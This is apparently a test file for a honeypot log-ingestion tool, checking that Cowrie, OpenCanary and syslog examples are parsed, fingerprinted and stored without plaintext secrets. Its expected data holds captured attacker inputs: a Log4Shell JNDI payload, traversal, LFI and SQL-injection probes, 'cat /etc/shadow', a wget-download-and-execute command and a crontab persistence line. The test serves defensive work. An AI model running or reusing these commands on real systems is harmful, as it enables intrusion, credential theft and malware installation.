/**
 * The examples give the documented rows and events (docs/ingest.md "The examples";
 * CORRECTIONS #7.9 pins the story #9 tags), and no plaintext secret reaches the database
 * file unless DECNET_STORE_PLAINTEXT_CREDENTIALS is set.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { silentLogger, systemClock } from '../../src/bus/index.js';
import { ingestFile, type IngestFileSummary } from '../../src/ingest/index.js';
import { REPO } from '../support/cli.js';
import { harness, topicsOf, type Harness } from './support.js';

const EXAMPLES = join(REPO, 'examples');
let h: Harness | undefined;
afterEach(async () => {
  await h?.close();
  h = undefined;
});

async function feed(file: string, format: 'rfc5424' | 'cowrie' | 'opencanary', env: Record<string, string> = {}): Promise<IngestFileSummary> {
  if (!h) throw new Error('no harness');
  return ingestFile({ db: h.db, bus: h.bus, config: h.config(env), log: silentLogger, clock: systemClock, signal: new AbortController().signal }, { file: join(EXAMPLES, file), format, follow: false, fromStart: false });
}

async function rows(): Promise<Array<[string | null, string | null, string | null, string | null]>> {
  return (await h!.db.repos.logs.readAfter(0, 1000)).map((r) => [r.decky, r.service, r.eventType, r.attackerIp]);
}

const SHA = {
  '123456': '8d969eef6ecad3c29a3a629280e686cf0c3f5d5a86aff3ca12020c923adc6c92',
  password: '5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8',
  admin: '8c6976e5b5410415bde908bd4dee15dfb167a9c873fc4bb8a81f6f2ab448a918',
  '12345': '5994471abb01112afcc18159f6cc74b4f511b99806da59b3caf5a9c173cacfc5',
  qwerty: '65e84be33532fb784c48129675f9eff3a682b27168c0ea744b2cf58ee02337c5',
  toor: 'ce5ca673d13b36118d54a7cf13aeb0ca012383bf771e713421b4d1fd841f539a',
};

describe('examples/rfc5424.log: 203.0.113.7 probing decky-03 over HTTP', () => {
  it('gives the documented rows and events', async () => {
    h = await harness();
    expect(await feed('rfc5424.log', 'rfc5424')).toMatchObject({ lines: 11, parsed: 9, unparsed: 0, filtered: 2, events: 2 });
    const atk = '203.0.113.7';
    expect(await rows()).toEqual([
      ['decky-03', 'http', 'startup', null],
      ['decky-03', 'http', 'connect', atk],
      ...Array.from({ length: 6 }, () => ['decky-03', 'http', 'request', atk]),
      ['decky-03', 'http', 'request', '192.0.2.61'],
    ]);
    const requests = (await h.db.repos.logs.readAfter(0, 100)).filter((r) => r.eventType === 'request' && r.attackerIp === atk);
    expect(requests.map((r) => [r.fields.method, r.fields.path, r.fields.user_agent])).toEqual([
      ['GET', '/', '${jndi:ldap://203.0.113.7:1389/Exploit}'],
      ['GET', '/..%2f..%2f..%2fetc/passwd', 'curl/8.4.0'],
      ['GET', '/index.php?page=php://filter/convert.base64-encode/resource=config.php', 'curl/8.4.0'],
      ['GET', '/item.php?id=1%27%20AND%201%3D1--%20-', 'sqlmap/1.7.2#stable (https://sqlmap.org)'],
      ['GET', '/', 'Mozilla/5.0 zgrab/0.x'],
      ['POST', '/manager/html', 'curl/8.4.0'],
    ]);
    expect(JSON.parse(requests[0]?.fields.headers ?? '')).toMatchObject({ 'User-Agent': '${jndi:ldap://203.0.113.7:1389/Exploit}' });
    expect(JSON.parse(requests[5]?.fields.headers ?? '')).toMatchObject({ Authorization: '[redacted]' });
    await h.settle(2);
    expect(topicsOf(h.events)).toEqual(['credential.captured', 'system.log:batch_committed']);
    expect(h.events[0]?.payload).toEqual({ secret_sha256: '1ec1c26b50d5d3c58d9583181af8076655fe00756bf7285940ba3670f99fcba0', secret_kind: 'plaintext', attacker_ip: atk, decky: 'decky-03', service: 'http' });
    expect(h.events[1]?.payload).toEqual({ kind: 'batch_committed', component: 'ingest', source: `file:${join(EXAMPLES, 'rfc5424.log')}`, flushed: 9, first_log_id: 1, last_log_id: 9 });
    expect(await h.db.repos.credentials.readAfter(0, 10)).toMatchObject([{ attackerIp: atk, decky: 'decky-03', service: 'http', principal: 'tomcat', count: 1, logId: 8 }]);
    const fps = await h.db.repos.ingestExtracts.readFingerprintsAfter(0, 100);
    expect(fps.filter((f) => f.kind === 'http_useragent').map((f) => f.details.tool)).toEqual(['log4shell', 'curl', 'curl', 'sqlmap', 'zgrab', 'curl', 'crawler']);
    expect(fps.filter((f) => f.kind === 'http_quirks')).toHaveLength(6);
  });
});

describe('examples/cowrie.json: 198.51.100.23 on decky-01', () => {
  it('gives the documented rows, credentials, artifact, sessions and events', async () => {
    h = await harness();
    expect(await feed('cowrie.json', 'cowrie')).toMatchObject({ lines: 19, parsed: 19, unparsed: 0, filtered: 0, events: 9 });
    const ip = '198.51.100.23';
    const a = (t: string): [string, string, string, string] => ['decky-01', 'ssh', t, ip];
    expect(await rows()).toEqual([
      a('connect'),
      a('client_version'),
      a('client_kex'),
      ...Array.from({ length: 6 }, () => a('login_attempt')),
      a('session.params'),
      a('command'),
      a('command'),
      a('command'),
      a('file_captured'),
      a('command'),
      a('log.closed'),
      a('session_recorded'),
      ['decky-01', 'telnet', 'connect', '192.0.2.44'],
      ['decky-01', 'telnet', 'session_recorded', '192.0.2.44'],
    ]);
    const logins = (await h.db.repos.logs.readAfter(0, 100)).filter((r) => r.eventType === 'login_attempt');
    expect(logins.map((r) => [r.fields.principal, r.fields.outcome, r.fields.secret_sha256, r.fields.password])).toEqual([
      ['root', 'failure', SHA['123456'], '[redacted]'],
      ['root', 'failure', SHA.password, '[redacted]'],
      ['root', 'failure', SHA.admin, '[redacted]'],
      ['root', 'failure', SHA['12345'], '[redacted]'],
      ['root', 'failure', SHA.qwerty, '[redacted]'],
      ['root', 'success', SHA.toor, '[redacted]'],
    ]);
    const commands = (await h.db.repos.logs.readAfter(0, 100)).filter((r) => r.eventType === 'command').map((r) => [r.timestamp, r.fields.command]);
    expect(commands).toEqual([
      ['2026-05-01T12:00:12.004871Z', 'uname -a'],
      ['2026-05-01T12:00:15.331456Z', 'cat /etc/shadow'],
      ['2026-05-01T12:00:21.702339Z', 'cd /tmp; wget http://192.0.2.80/bins.sh; chmod +x bins.sh; ./bins.sh'],
      ['2026-05-01T12:00:30.418265Z', '(crontab -l; echo "*/5 * * * * /tmp/bins.sh") | crontab -'],
    ]);
    expect((await h.db.repos.credentials.readAfter(0, 10)).map((c) => [c.principal, c.secretSha256, c.service])).toEqual([SHA['123456'], SHA.password, SHA.admin, SHA['12345'], SHA.qwerty, SHA.toor].map((s) => ['root', s, 'ssh']));
    expect(await h.db.repos.ingestExtracts.listArtifacts({ limit: 5 })).toMatchObject([
      { kind: 'file', attackerIp: ip, decky: 'decky-01', service: 'ssh', url: 'http://192.0.2.80/bins.sh', sha256: '6b7153aae3acc6262dbd3c82623e117b3148852ffc300478db7d894b0cd1d5ee', logId: 14 },
    ]);
    expect((await h.db.repos.ingestExtracts.readFingerprintsAfter(0, 10)).map((f) => [f.kind, f.value])).toEqual([
      ['ssh_client_banner', 'SSH-2.0-Go'],
      ['hassh', 'da4df576e5a76f2def816e938a36edd6'],
    ]);

    await h.settle(9);
    expect(topicsOf(h.events)).toEqual(['attacker.session.ended', 'attacker.session.ended', ...Array.from({ length: 6 }, () => 'credential.captured'), 'system.log:batch_committed']);
    expect(h.events[0]?.payload).toEqual({
      session_id: 'a1b2c3d4e5f6',
      attacker_uuid: null,
      attacker_ip: ip,
      decky_id: 'decky-01',
      service: 'ssh',
      ended_at: '2026-05-01T12:00:31.022490Z',
      duration_s: 30.9,
      commands: commands.map(([ts, text], i) => ({ id: `a1b2c3d4e5f6#${i}`, command_text: text, ts, decky: 'decky-01', service: 'ssh' })),
      commands_truncated: false,
      command_count: 4,
      shard_path: null,
    });
    expect(h.events[1]?.payload).toMatchObject({ session_id: 'f0e1d2c3b4a5', attacker_ip: '192.0.2.44', service: 'telnet', duration_s: 0.8, commands: [], command_count: 0 });
    expect((await h.db.repos.journal.readAfter(0, { limit: 20 })).map((j) => j.id)).toEqual(h.events.slice(0, 8).map((e) => e.id));
  });
});

describe('examples/opencanary.json: the same address on decky-02, and noise', () => {
  it('gives the documented rows and events', async () => {
    h = await harness();
    expect(await feed('opencanary.json', 'opencanary')).toMatchObject({ lines: 7, parsed: 6, unparsed: 0, filtered: 1, events: 3 });
    expect(await rows()).toEqual([
      ['decky-02', 'portscan', 'syn', '192.0.2.44'],
      ['decky-02', 'ssh', 'connect', '198.51.100.23'],
      ['decky-02', 'ssh', 'client_version', '198.51.100.23'],
      ['decky-02', 'ssh', 'login_attempt', '198.51.100.23'],
      ['decky-02', 'http', 'request', '192.0.2.61'],
      ['decky-02', 'ftp', 'login_attempt', '192.0.2.61'],
    ]);
    await h.settle(3);
    expect(topicsOf(h.events)).toEqual(['credential.captured', 'credential.captured', 'system.log:batch_committed']);
    expect(h.events[0]?.payload).toEqual({ secret_sha256: SHA.toor, secret_kind: 'plaintext', attacker_ip: '198.51.100.23', decky: 'decky-02', service: 'ssh' });
    expect((await h.db.repos.ingestExtracts.readFingerprintsAfter(0, 10)).map((f) => [f.kind, f.value])).toEqual([
      ['ssh_client_banner', 'SSH-2.0-Go'],
      ['http_useragent', 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'],
    ]);
    expect((await h.db.repos.credentials.readAfter(0, 10)).map((c) => [c.principal, c.decky, c.service])).toEqual([
      ['root', 'decky-02', 'ssh'],
      ['anonymous', 'decky-02', 'ftp'],
    ]);
  });
});

describe('all three', () => {
  it('root/toor on decky-01 and decky-02 is one secret on two targets (the reuse finding correlate makes)', async () => {
    h = await harness();
    await feed('rfc5424.log', 'rfc5424');
    await feed('cowrie.json', 'cowrie');
    await feed('opencanary.json', 'opencanary');
    const toor = (await h.db.repos.credentials.readAfter(0, 100)).filter((c) => c.secretSha256 === SHA.toor);
    expect(toor.map((c) => [c.attackerIp, c.decky, c.service, c.principal, c.secretKind])).toEqual([
      ['198.51.100.23', 'decky-01', 'ssh', 'root', 'plaintext'],
      ['198.51.100.23', 'decky-02', 'ssh', 'root', 'plaintext'],
    ]);
    expect(await h.db.repos.logs.head()).toBe(34);
  });

  const SECRETS = ['123456', 'qwerty', 'toor', 's3cret', 'czNjcmV0', 'dG9tY2F0OnMzY3JldA==', 'guest@example.com'];
  const fileText = (home: string): string =>
    readdirSync(home)
      .filter((f) => f.startsWith('decnet.db'))
      .map((f) => readFileSync(join(home, f)).toString('latin1'))
      .join('\n');

  it('no plaintext secret in the database file (WAL included)', async () => {
    h = await harness();
    await feed('rfc5424.log', 'rfc5424');
    await feed('cowrie.json', 'cowrie');
    await feed('opencanary.json', 'opencanary');
    const text = fileText(h.home);
    for (const secret of SECRETS) expect(text.includes(secret), secret).toBe(false);
  });

  it('with DECNET_STORE_PLAINTEXT_CREDENTIALS the secrets are kept (the control)', async () => {
    h = await harness();
    const env = { DECNET_STORE_PLAINTEXT_CREDENTIALS: 'true' };
    await feed('rfc5424.log', 'rfc5424', env);
    await feed('cowrie.json', 'cowrie', env);
    const text = fileText(h.home);
    expect(text.includes('qwerty')).toBe(true);
    expect(text.includes('s3cret')).toBe(true);
    expect((await h.db.repos.credentials.readAfter(0, 100)).find((c) => c.principal === 'tomcat')).toMatchObject({ secretPrintable: 's3cret', secretB64: 'czNjcmV0' });
  });
});
